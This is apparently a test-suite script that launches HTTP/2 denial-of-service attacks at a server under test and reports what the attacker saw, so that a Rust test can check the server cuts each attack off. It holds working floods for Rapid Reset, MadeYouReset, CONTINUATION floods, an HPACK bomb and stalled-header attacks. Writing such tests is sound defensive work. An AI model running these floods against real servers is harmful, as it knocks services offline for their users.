"""Attacks by HTTP/2, one a run: `attacks.py NAME`, with the target as JSON on the standard input.

Prints what the attacker saw, as JSON. Run by `tests/stories/http2/attacks.rs`, which knows what must be seen; each
attack breaks off of itself if nobody stops it.
"""

import asyncio
import json
import ssl
import sys

import h2.errors
import h2.settings
import hyperframe.frame as frames

from caller import Caller, Ended

# Frames of a flood; more must not be needed.
FLOOD = 50_000
# Frames that are put together before they are sent.
BATCH = 250
WINDOW_MAX = 2**31 - 1

ATTACKS = {}


def attack(function):
    """One that must be cut: it waits for that when it has said all."""

    async def until_ended(caller):
        await function(caller)
        await caller.until_ended(caller.target["patience"])

    ATTACKS[function.__name__] = until_ended
    return function


def refused(function):
    """One whose streams are refused, on a connection that may go on."""
    ATTACKS[function.__name__] = function
    return function


async def flood(caller, make, total=FLOOD, first=()):
    """So many frames, from `make`, which gives some at a time."""
    batch = list(first)
    while caller.frames < total:
        while len(batch) < BATCH:
            batch += make()
        await caller.by_hand(*batch)
        batch.clear()


async def lawful_flood(caller, say, each=1):
    """The same of what `say` has `h2` say."""
    while caller.frames < FLOOD:
        for _ in range(BATCH // each):
            say()
        await caller.lawfully(BATCH // each * each)


@attack
async def rapid_reset(caller):
    """CVE-2023-44487: requests that are taken back at once, of which none counts as open."""
    await caller.open()

    def say():
        stream = caller.next_stream()
        caller.lawful.send_headers(stream, caller.request(), end_stream=True)
        caller.lawful.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)

    await lawful_flood(caller, say, each=2)


async def made_you_reset(caller, *provocation, method="GET"):
    """CVE-2025-8671: requests that the server has to reset, and goes on working on."""
    await caller.open()
    end = ["END_STREAM"] if method == "GET" else []

    def make():
        head = caller.headers(caller.request(method), flags=["END_HEADERS", *end])
        return [head, *(frame(head.stream_id) for frame in provocation)]

    await flood(caller, make)


@attack
async def made_you_reset_by_an_empty_window_update(caller):
    await made_you_reset(caller, lambda stream: frames.WindowUpdateFrame(stream, window_increment=0))


@attack
async def made_you_reset_by_a_window_too_large(caller):
    await made_you_reset(
        caller, lambda stream: frames.WindowUpdateFrame(stream, window_increment=WINDOW_MAX)
    )


@attack
async def made_you_reset_by_a_priority_on_itself(caller):
    await made_you_reset(caller, lambda stream: frames.PriorityFrame(stream, depends_on=stream))


@attack
async def made_you_reset_by_data_after_the_end(caller):
    await made_you_reset(caller, lambda stream: frames.DataFrame(stream, b"more"))


@attack
async def made_you_reset_by_a_head_after_the_end(caller):
    await made_you_reset(caller, lambda stream: caller.headers([("x", "y")], stream=stream))


@attack
async def made_you_reset_by_a_body_of_another_length(caller):
    await caller.open()

    def make():
        fields = caller.request("POST", more=[("content-length", "1")])
        head = caller.headers(fields, flags=["END_HEADERS"])
        return [head, frames.DataFrame(head.stream_id, b"more", flags=["END_STREAM"])]

    await flood(caller, make)


async def continuations(caller, block):
    await caller.open()
    head = caller.headers(flags=["END_STREAM"])
    piece = frames.ContinuationFrame(head.stream_id, block)
    await flood(caller, lambda: [piece], first=[head])


@attack
async def continuation_flood(caller):
    """A head that never ends."""
    await continuations(caller, caller.encoder.encode([("x", "y")] * 100))


@attack
async def empty_continuation_flood(caller):
    await continuations(caller, b"")


@attack
async def hpack_bomb(caller):
    """Heads of some kilobytes that unpack to megabytes: a long field in the table, named 4,000 times."""
    await caller.open()
    fields = [*caller.request(), *[("x", "y" * 3_900)] * 4_000]
    # The first of them puts it into the table; the next are as long as they say it.
    await caller.by_hand(caller.headers(fields))
    block = caller.encoder.encode(fields)
    for _ in range(1_000):
        flags = ["END_HEADERS", "END_STREAM"]
        await caller.by_hand(frames.HeadersFrame(caller.next_stream(), block, flags=flags))


@attack
async def hpack_table_too_large(caller):
    """A table that is to be larger than was agreed."""
    await caller.open()
    caller.encoder.header_table_size = 1 << 24
    await caller.by_hand(caller.headers())


@attack
async def empty_data_flood(caller):
    await caller.open()
    head = caller.headers(caller.request("POST"), flags=["END_HEADERS"])
    await flood(caller, lambda: [frames.DataFrame(head.stream_id)], first=[head])


@attack
async def padding_flood(caller):
    """Data that are nothing but padding."""
    await caller.open()
    head = caller.headers(caller.request("POST"), flags=["END_HEADERS"])
    padding = frames.DataFrame(head.stream_id, pad_length=0, flags=["PADDED"])
    await flood(caller, lambda: [padding], first=[head])


@refused
async def stream_overrun(caller):
    """Requests that wait for their bodies, a few more than may be at once."""
    await caller.open()
    heads = [caller.headers(caller.request("POST"), flags=["END_HEADERS"]) for _ in range(148)]
    await caller.by_hand(*heads)
    await caller.until_told(20, caller.target["patience"])
    # Those that were taken are served on.
    await caller.by_hand(*(frames.DataFrame(it.stream_id, flags=["END_STREAM"]) for it in heads[:128]))
    await caller.until_told(148, caller.target["patience"])


@attack
async def stream_flood(caller):
    """The same without end."""
    await caller.open()
    await flood(caller, lambda: [caller.headers(caller.request("POST"), flags=["END_HEADERS"])])


@refused
async def header_list_overrun(caller):
    """Heads larger than is taken: a little, so that they are a request, and so that they never become one."""
    await caller.open()
    for kilobytes in (40, 60, 80, 120):
        fields = [(f"x-{number}", "y" * 980) for number in range(kilobytes)]
        head = caller.headers([*caller.request(), *fields], flags=["END_STREAM"])
        block, head.data = head.data[16_000:], head.data[:16_000]
        pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        rest = [frames.ContinuationFrame(head.stream_id, piece) for piece in pieces]
        rest[-1].flags.add("END_HEADERS")
        await caller.by_hand(head, *rest)
    await caller.until_told(4, caller.target["patience"])


@attack
async def settings_flood(caller):
    await caller.open()
    await lawful_flood(caller, lambda: caller.lawful.update_settings({}))


@attack
async def ping_flood(caller):
    await caller.open()
    await lawful_flood(caller, lambda: caller.lawful.ping(b"12345678"))


@attack
async def priority_flood(caller):
    await caller.open()
    priority = lambda: [frames.PriorityFrame(caller.next_stream(), depends_on=0, stream_weight=1)]
    await flood(caller, priority)


@attack
async def window_update_flood(caller):
    await caller.open()
    await lawful_flood(caller, lambda: caller.lawful.increment_flow_control_window(1))


@attack
async def unknown_frame_flood(caller):
    await caller.open()
    await flood(caller, lambda: [frames.ExtensionFrame(0xBB, 0, body=b"")])


@attack
async def frame_too_long(caller):
    await caller.open()
    await caller.by_hand(frames.DataFrame(caller.next_stream(), bytes(100_000)))


@attack
async def data_before_its_head(caller):
    await caller.open()
    await caller.by_hand(frames.DataFrame(caller.next_stream(), b"x"))


@attack
async def stalled_headers(caller):
    """The beginning of a head, and silence."""
    await caller.open()
    await caller.by_hand(caller.headers(flags=["END_STREAM"]))


@attack
async def trickled_headers(caller):
    """A head that goes on and on, byte by byte."""
    await caller.open()
    head = caller.headers(flags=["END_STREAM"])
    await caller.by_hand(head)
    for byte in caller.encoder.encode([("x", "y" * 1_000)], huffman=False):
        await asyncio.sleep(0.1)
        await caller.by_hand(frames.ContinuationFrame(head.stream_id, bytes([byte])))


async def ask_for_large_answers(caller, settings):
    caller.lawful.local_settings.update(settings)
    await caller.open()
    for _ in range(100):
        stream = caller.next_stream()
        caller.lawful.send_headers(stream, caller.request(path="/large"), end_stream=True)
    await caller.lawfully(100)


@refused
async def windows_that_never_open(caller):
    """A hundred large answers, of which no stream lets a byte in."""
    code = h2.settings.SettingCodes.INITIAL_WINDOW_SIZE
    await ask_for_large_answers(caller, {code: 0})
    await caller.until_told(200, caller.target["patience"])


@refused
async def a_connection_window_that_never_opens(caller):
    """The same, where each stream would let all in, and the connection no more than at its beginning."""
    code = h2.settings.SettingCodes.INITIAL_WINDOW_SIZE
    await ask_for_large_answers(caller, {code: WINDOW_MAX})
    await caller.until_told(200, caller.target["patience"])


async def main(name):
    target = json.load(sys.stdin)
    way = {"host": target["address"], "port": target["port"]}
    target["scheme"] = "http"
    if target["authority"] is not None:
        way["ssl"] = ssl.create_default_context(cafile=target["authority"])
        way["ssl"].set_alpn_protocols(["h2"])
        way["server_hostname"] = target["host"].split(":")[0]
        target["scheme"] = "https"
    async with Caller(target, way) as caller:
        try:
            await ATTACKS[name](caller)
        except Ended:
            pass
        print(json.dumps(caller.seen()))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1]))
